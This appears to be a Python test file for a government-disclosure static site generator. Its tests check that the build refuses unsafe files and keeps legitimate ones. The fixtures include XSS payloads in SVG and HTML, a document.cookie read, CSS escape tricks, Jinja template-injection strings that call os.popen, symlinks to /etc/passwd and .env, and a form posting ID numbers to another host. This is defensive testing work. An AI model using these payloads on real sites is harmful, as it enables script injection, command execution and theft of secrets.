"""Files an attacker or a careless editor can commit: active content, links out of the site,
named pipes, files in the theme's place, bodies that load from other hosts. Each case with the
legitimate neighbour that must keep working."""
from __future__ import annotations

import os
import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gongkai.checks.files import markdown_source

CHART = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">'
         '<defs><linearGradient id="g"/></defs><rect width="10" height="10" style="fill:url(#g)"/>'
         '<a xlink:href="https://www.gov.cn/"><text y="5">图</text></a></svg>')


@pytest.mark.parametrize("svg, why", [
    ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "script"),
    ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "onload"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>', "javascript:"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><image href="https://other.example/t.png"/></svg>', "other.example"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p>'
     '</foreignObject></svg>', "foreignobject"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(//other.example/a.css);</style></svg>', "@import"),
    ('<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>', "实体"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="javascript:alert(1)"/></svg>', "javascript:"),
    # CSS escapes and image-set() read by the browser as @import and URLs
    ('<svg xmlns="http://www.w3.org/2000/svg"><style>@\\69mport "x.css";</style></svg>', "@import"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><style>rect{fill:u\\72l(ht\\74p://other.example/a)}</style></svg>',
     "样式表"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:image-set(\'https://other.example/a.png\' 1x)"/></svg>',
     "样式"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><style><![CDATA[@font-face{src:url(//other.example/f.woff)}]]></style>'
     '</svg>', "样式表"),
    ('<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>', "XSLT"),
    # presentation attributes that fetch: fill, mask, clip-path, markers, cursor
    ('<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(https://other.example/a.svg#p)"/></svg>', "fill"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><rect mask="url(//other.example/b.svg#m)"/></svg>', "mask"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><rect cursor="url(https://other.example/d.png), auto"/></svg>', "cursor"),
])
def test_svg_with_active_content_is_refused(site, svg, why):
    site.write("content/images/chart.svg", svg)
    r = site.build("--no-search")
    assert r.code == 1
    [d] = r.find("html-unsafe")
    assert d["file"] == "content/images/chart.svg" and why in d["message"]
    assert not site.out.exists()


def test_plain_svg_chart_is_published(site):
    site.write("content/images/chart.svg", CHART)
    assert site.build("--no-search").code == 0
    assert (site.out / "images/chart.svg").read_text(encoding="utf-8") == CHART


def test_a_style_sheet_in_utf16_is_found_whatever_the_encoding(site):
    svg = ('<?xml version="1.0" encoding="UTF-16"?>\n<?xml-stylesheet href="x.xsl" type="text/xsl"?>'
           '<svg xmlns="http://www.w3.org/2000/svg"/>')
    site.write("content/images/chart.svg", svg.encode("utf-16"))
    site.write("content/files/list.xml", svg.encode("utf-16"))
    r = site.build("--no-search")
    assert r.code == 1
    assert sorted(d["file"] for d in r.find("html-unsafe") if "xml-stylesheet" in d["message"]) == [
        "content/files/list.xml", "content/images/chart.svg"]


def test_svg_with_quoted_css_and_other_instructions_and_an_xml_data_file_are_published(site):
    svg = ('<?xml version="1.0" encoding="UTF-16"?><?inkscape version="1"?><svg xmlns="http://www.w3.org/2000/svg">'
           '<style>text{font-family:"Noto Sans CJK SC"} .n::after{content:"注: 单位 万元"} /* https://x */</style>'
           '<rect width="1" height="1" style="fill:url(#g)"/></svg>')
    data = '<?xml version="1.0" encoding="UTF-8"?><目录><文件 编号="1">通知</文件></目录>'
    site.write("content/images/chart.svg", svg.encode("utf-16"))
    site.write("content/files/list.xml", data)
    r = site.build("--no-search")
    assert r.code == 0, r.diagnostics
    assert (site.out / "images/chart.svg").read_bytes() == svg.encode("utf-16")
    assert (site.out / "files/list.xml").read_text(encoding="utf-8") == data


@pytest.mark.parametrize("path", ["content/files/page.html", "content/files/a.XHTML", "content/assets/search.js",
                                  "static/tracker.js", "static/x.htm", "content/files/x.svgz", "content/files/a.xhtm",
                                  "static/a.es", "content/files/upload.php", "static/web.config",
                                  "content/files/x.html.", "content/files/feed.rss"])
def test_files_that_run_script_are_refused(site, path):
    site.write(path, "<script>alert(document.cookie)</script>")
    r = site.build("--no-search")
    assert r.code == 1
    assert [d["file"] for d in r.find("html-unsafe")] == [path]


PAGE = "<html><script>document.title='x'</script></html>"


@pytest.mark.parametrize("path, text", [
    ("content/files/c.html.foo", PAGE), ("static/a.html.en", PAGE),      # Apache: every extension counts
    ("content/files/s.svg.foo", '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'),
    ("content/files/readme", PAGE), ("content/files/notes.foo", "\ufeff  <!DOCTYPE html><p>x"),   # sniffed
])
def test_pages_behind_other_or_no_extensions_are_refused(site, path, text):
    site.write(path, text)
    r = site.build("--no-search")
    assert r.code == 1
    assert [d["file"] for d in r.find("html-unsafe")] == [path]


def test_files_with_known_extensions_or_plain_text_are_published(site):
    site.write("content/files/readme.txt", PAGE)                  # served as text/plain: never rendered
    site.write("content/files/LICENSE", "MIT License <b>not a page</b>")
    site.write("content/files/report.2024.pdf", b"%PDF-1.4 <html>")
    r = site.build("--no-search")
    assert r.code == 0, r.diagnostics
    assert {p.name for p in (site.out / "files").iterdir()} >= {"readme.txt", "LICENSE", "report.2024.pdf"}


@pytest.mark.parametrize("name", ["valid.md.txt", "valid.MD", "valid.markdown", "valid.md.bak", "valid.Md.TXT", "valid.txt"])
def test_a_document_saved_under_another_name_is_an_error_not_published_raw(site, name):
    """Notepad's 另存为 adds .txt, a backup adds .bak: such a file made no page and went out as it was,
    front matter, a mobile number and all, past every check (found by a probe)."""
    text = site.read("content/policies/valid.md") + "\n联系人电话 13812345678。\n"
    site.write(f"content/policies/{name}", text.replace("000000000/2025-00001", "000000000/2025-00009"))
    r = site.build("--no-search")
    assert r.code == 1
    [d] = r.find("document-misnamed")
    assert d["file"] == f"content/policies/{name}" and d["severity"] == "error"
    assert "改名为 valid.md" in d["message"] and "原样发布" in d["message"]


@pytest.mark.parametrize("name", ["feedback - 副本.md", "feedback - 副本 (2).md", "feedback - Copy.md"])
def test_a_copy_explorer_made_is_not_published_as_a_second_page(site, name):
    site.write(f"content/articles/{name}", site.read("content/articles/feedback.md"))
    r = site.build("--no-search")
    assert r.code == 1 and [d["file"] for d in r.find("document-misnamed")] == [f"content/articles/{name}"]
    site.write("content/articles/feedback-2.md", site.read("content/articles/feedback.md"))    # a name of its own
    site.file(f"content/articles/{name}").unlink()
    assert site.build("--no-search").find("document-misnamed") == []


def test_office_and_explorer_leftovers_are_not_published(site):
    """Thumbs.db keeps thumbnails of pictures since deleted, ~$x.docx the name of who had x.docx open."""
    for name in ("Thumbs.db", "desktop.ini", "~$项目清单.docx", "ehthumbs.db"):
        site.write(f"content/files/{name}", b"\x00junk")
    site.write("content/files/readme.txt", "说明: ---\ntype: 不是信息栏\n")        # a .txt not opening with ---
    r = site.build("--no-search")
    assert r.code == 0 and r.diagnostics == [], r.diagnostics
    assert sorted(p.name for p in (site.out / "files").iterdir() if p.name != "form.csv") == ["readme.txt"]


@given(st.text(alphabet="abc.-_x中文 ", min_size=1, max_size=12))
def test_only_a_lower_case_md_name_is_taken_for_a_document(stem):
    assert markdown_source(stem + ".md") is None and markdown_source(stem + ".pdf") is None
    for other in (".md.txt", ".MD", ".markdown", ".md.bak", ".Mkd"):
        assert markdown_source(stem + other) is not None, stem + other


@pytest.mark.parametrize("expression", ['cycler.__init__.__globals__.os.popen("id").read()',
                                        'lipsum.__globals__["os"].popen("id").read()',
                                        '(cycler|attr("__init__")).__globals__'])
def test_a_site_template_cannot_reach_python_internals(site, expression):
    """{{ cycler.__init__.__globals__.os.popen("id").read() }} in layouts/page.html ran a command as
    the build's user: the site's templates render in Jinja's sandbox."""
    site.write("layouts/page.html", '{% extends "base.html" %}{% block main %}{{ ' + expression + ' }}{% endblock %}')
    r = site.build("--no-search")
    assert r.code == 1 and not site.out.exists()
    [d] = r.find("template-invalid")
    assert d["file"] == "layouts/page.html" and "内部属性" in d["message"], d
    site.write("layouts/page.html", '{% extends "base.html" %}{% block main %}<p>{{ page.title }}{{ doc.title | default("") }}</p>'
               '{% set xs = [] %}{% do xs.append(1) %}{{ xs | length }}{% endblock %}')
    assert site.build("--no-search").code == 0           # what a template may do, it still does


def test_theme_assets_are_not_replaced_by_site_files(site):
    site.write("content/assets/gongkai.css", "body{display:none}")
    site.write("static/sitemap.xml", "<urlset/>")
    r = site.build("--no-search")
    assert r.code == 0
    conflicts = r.find("file-conflict")
    assert {d["file"] for d in conflicts} == {"content/assets/gongkai.css", "static/sitemap.xml"}
    assert all(d["severity"] == "warning" and "layouts/static/" in d["message"] for d in conflicts)
    assert "display:none" not in (site.out / "assets/gongkai.css").read_text(encoding="utf-8")
    assert (site.out / "sitemap.xml").read_text(encoding="utf-8").startswith("<?xml")


def test_layouts_static_overrides_the_theme_on_purpose(site):
    site.write("layouts/static/gongkai.css", "body{color:#000}")
    site.write("layouts/static/extra.js", "console.log(1)")
    r = site.build("--no-search")
    assert r.code == 0 and not r.find("file-conflict") and not r.find("html-unsafe")
    assert (site.out / "assets/gongkai.css").read_text(encoding="utf-8") == "body{color:#000}"


@pytest.mark.parametrize("body, tag, url", [
    ("![统计图](https://other.example/track.png)", "img", "https://other.example/track.png"),
    ('<img src="//other.example/a.png" alt="图">', "img", "//other.example/a.png"),
    ('<img src="/\\other.example/a.png" alt="图">', "img", "/\\other.example/a.png"),
    ('<video controls poster="https://cdn.example/p.jpg"><track kind="captions" src="a.vtt"></video>',
     "video", "https://cdn.example/p.jpg"),
    ('<video controls><source src="https://cdn.example/v.mp4"><track kind="captions" src="a.vtt"></video>',
     "source", "https://cdn.example/v.mp4"),
    ('<video controls><track kind="captions" src="https://cdn.example/a.vtt"></video>',
     "track", "https://cdn.example/a.vtt"),
    ('<audio controls src="http://cdn.example/a.mp3"></audio>\n\n文字稿: 全文。', "audio", "http://cdn.example/a.mp3"),
    ('<iframe src="https://video.example/embed/1" title="视频"></iframe>', "iframe", "https://video.example/embed/1"),
    ('<object data="https://other.example/x.pdf"></object>', "object", "https://other.example/x.pdf"),
    ('<link rel="stylesheet" href="https://other.example/a.css">', "link", "https://other.example/a.css"),
    ('<div style="background:url(https://other.example/bg.png)">字</div>', "div", "https://other.example/bg.png"),
    ('<img srcset="a.png 1x, https://other.example/b.png 2x" src="../images/chart.svg" alt="图">', "img",
     "https://other.example/b.png"),
    # markup that hides an element from one HTML parser and not from the sanitizer's
    ('<p><!--> <img src="https://other.example/d.png" alt="图"> --></p>', "img", "https://other.example/d.png"),
    ('<![CDATA[x]]><img src="https://other.example/e.png" alt="图">', "img", "https://other.example/e.png"),
    ('<svg><style><img src="https://other.example/f.png" alt="图"></style></svg>', "img",
     "https://other.example/f.png"),
    ('<div style="background:image-set(\'https://other.example/g.png\' 1x)">字</div>', "div",
     "https://other.example/g.png"),
])
def test_body_that_loads_from_another_host(site, body, tag, url):
    site.replace("content/policies/valid.md", "各乡镇人民政府:", f"各乡镇人民政府:\n\n{body}\n")
    r = site.run("check")
    assert r.code == 1
    found = r.find("external-resource")
    assert found, r.diagnostics
    assert any(f"<{tag}>" in d["message"] and url in d["message"] for d in found)
    assert all(d["file"] == "content/policies/valid.md" and d["line"] > 1 for d in found)


@pytest.mark.parametrize("body, what", [
    ('<meta http-equiv="refresh" content="0;url=https://other.example/">', "<meta>"),
    ('<base href="https://other.example/">', "<base>"),
    ('<form action="https://other.example/collect"><input name="身份证号"></form>', "<form>"),
])
def test_markup_that_sends_the_reader_elsewhere_is_html_unsafe(site, body, what):
    site.replace("content/policies/valid.md", "各乡镇人民政府:", f"各乡镇人民政府:\n\n{body}\n")
    r = site.run("check")
    assert r.code == 1
    [d] = r.find("html-unsafe")
    assert what in d["message"] and d["line"] == site.line_of("content/policies/valid.md", what[:-1])


def test_thousands_of_one_mistake_give_fifty_messages_and_a_count(site):
    body = "\n\n".join(f'<img src="https://other.example/{i}.png" alt="图">' for i in range(300))
    body += "\n\n" + "\n\n".join('<p onclick="x()">段落</p>' for _ in range(300))
    body += "\n\n" + "\n\n".join(f'<img src="https://www.example.gov.cn/zwgk/{i}.png" alt="本站">' for i in range(80))
    site.write("content/many.md", f"---\ntype: page\ntitle: 很多\n---\n\n{body}\n")
    r = site.run("check")
    assert r.code == 1
    for code in ("external-resource", "html-unsafe"):
        found = [d for d in r.find(code) if d["file"] == "content/many.md"]
        assert len(found) <= 51 and sum("另有 250 处" in d["message"] for d in found) == 1, (code, len(found))
    assert len([d for d in r.find("external-resource") if d["file"] == "content/many.md"]) == 51


def test_links_to_other_hosts_and_own_host_images_are_fine(site):
    site.replace("content/policies/valid.md", "各乡镇人民政府:",
                 "各乡镇人民政府:\n\n详见[国务院网站](https://www.gov.cn/)和 <https://www.gov.cn/zhengce/>。\n\n"
                 '<img src="https://www.example.gov.cn/zwgk/logo.png" alt="本站标志">\n')
    r = site.run("check")
    assert r.code == 0 and not r.find("external-resource"), r.diagnostics


def test_malformed_url_is_reported_not_silently_dropped(site):
    site.replace("content/policies/valid.md", "各乡镇人民政府:", "各乡镇人民政府: 见[说明](http://[::1)。")
    r = site.run("check")
    [d] = r.find("link-broken")
    assert "格式有误" in d["message"] and d["line"] == site.line_of("content/policies/valid.md", "[::1")


def test_symbolic_links_out_of_content_are_never_read(site, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("password=hunter2")
    site.write(".env", "TOKEN=abc")
    os.symlink("../../site.toml", site.file("content/files/site.toml"))
    os.symlink("../../.env", site.file("content/files/env.txt"))
    os.symlink(secret, site.file("content/files/secret.txt"))
    site.file("static").mkdir()
    os.symlink("/etc/passwd", site.file("static/passwd.txt"))
    os.symlink(tmp_path, site.file("content/outside"))
    os.symlink("form.csv", site.file("content/files/same.csv"))        # the legitimate neighbour
    r = site.build("--no-search")
    assert r.code == 1
    broken = {d["file"] for d in r.find("link-broken")}
    assert broken == {"content/files/site.toml", "content/files/env.txt", "content/files/secret.txt",
                      "static/passwd.txt", "content/outside"}
    for name in ("site.toml", "env.txt", "secret.txt", "same.csv"):
        site.file(f"content/files/{name}").unlink()
    site.file("static/passwd.txt").unlink()
    site.file("content/outside").unlink()
    os.symlink("form.csv", site.file("content/files/same.csv"))
    r = site.build("--no-search")
    assert r.code == 0, r.diagnostics
    assert (site.out / "files/same.csv").read_bytes() == site.file("content/files/form.csv").read_bytes()


def test_a_static_folder_that_is_a_link_out_of_the_site_is_not_read(site, tmp_path):
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/shadow").write_text("root:x")
    os.symlink(tmp_path / "etc", site.file("static"))
    r = site.build("--no-search")
    assert r.code == 1 and [d["file"] for d in r.find("link-broken")] == ["static"]


def test_named_pipe_is_skipped_with_a_warning_not_a_hang(site):
    os.mkfifo(site.file("content/pipe.md"))
    os.mkfifo(site.file("content/files/pipe.csv"))
    r = site.build("--no-search")
    assert r.code == 0
    assert {(d["file"], d["severity"]) for d in r.find("file-skipped")} == {
        ("content/pipe.md", "warning"), ("content/files/pipe.csv", "warning")}
    assert not (site.out / "pipe").exists() and not (site.out / "files/pipe.csv").exists()


def test_reading_ahead_never_waits_on_a_pipe_nor_follows_a_link(tmp_path):
    """files.prefetch opens every path it is given: a pipe without a writer, a link to one, a folder,
    a missing file are passed over at once (run apart, so that a wait would fail by its timeout)."""
    os.mkfifo(tmp_path / "pipe.md")
    os.symlink(tmp_path / "pipe.md", tmp_path / "link.md")
    (tmp_path / "a.md").write_text("正文")
    (tmp_path / "folder.md").mkdir()
    paths = [str(tmp_path / n) for n in ("pipe.md", "link.md", "a.md", "folder.md", "missing.md")]
    code = f"from gongkai.files import prefetch; prefetch({paths!r}); print('done')"
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0 and proc.stdout.strip() == "done", proc.stderr


def test_symlink_loop_and_dangling_link_are_reported(site):
    os.symlink("b.md", site.file("content/a.md"))
    os.symlink("a.md", site.file("content/b.md"))
    os.symlink("nothing.png", site.file("content/images/gone.png"))
    r = site.run("check")
    assert {d["file"] for d in r.find("link-broken")} == {"content/a.md", "content/b.md", "content/images/gone.png"}


def test_a_template_linked_out_of_layouts_is_never_rendered(site, tmp_path):
    secret = tmp_path / "secret.html"
    secret.write_text("SECRET-PASSWORD")
    site.file("layouts").mkdir()
    os.symlink(secret, site.file("layouts/policy.html"))
    r = site.build("--no-search")
    assert r.code == 1 and [d["file"] for d in r.find("link-broken")] == ["layouts/policy.html"]
    from gongkai.templates import ConfinedLoader
    from jinja2 import Environment, TemplateNotFound
    with pytest.raises(TemplateNotFound):
        Environment(loader=ConfinedLoader(str(site.file("layouts")))).get_template("policy.html")


def test_a_file_read_for_the_inputs_key_is_never_a_pipe_or_a_link_put_there_after_its_stat(tmp_path):
    """files.read_regular (the inputs key's read of a file whose stat it has): a pipe without a
    writer, a link, a folder are an OSError at once, a regular file its bytes (run apart: a wait
    would fail by its timeout)."""
    os.mkfifo(tmp_path / "pipe.md")
    os.symlink(tmp_path / "a.md", tmp_path / "link.md")
    (tmp_path / "a.md").write_text("正文", encoding="utf-8")
    (tmp_path / "folder.md").mkdir()
    code = ("import sys\nfrom gongkai.files import read_regular\n"
            "for path in sys.argv[1:]:\n"
            "    try:\n        print(read_regular(path).decode())\n"
            "    except OSError:\n        print('refused')\n")
    paths = [str(tmp_path / n) for n in ("pipe.md", "link.md", "a.md", "folder.md")]
    proc = subprocess.run([sys.executable, "-c", code, *paths], capture_output=True, text=True, timeout=60)
    assert proc.stdout.split() == ["refused", "refused", "正文", "refused"], proc.stderr
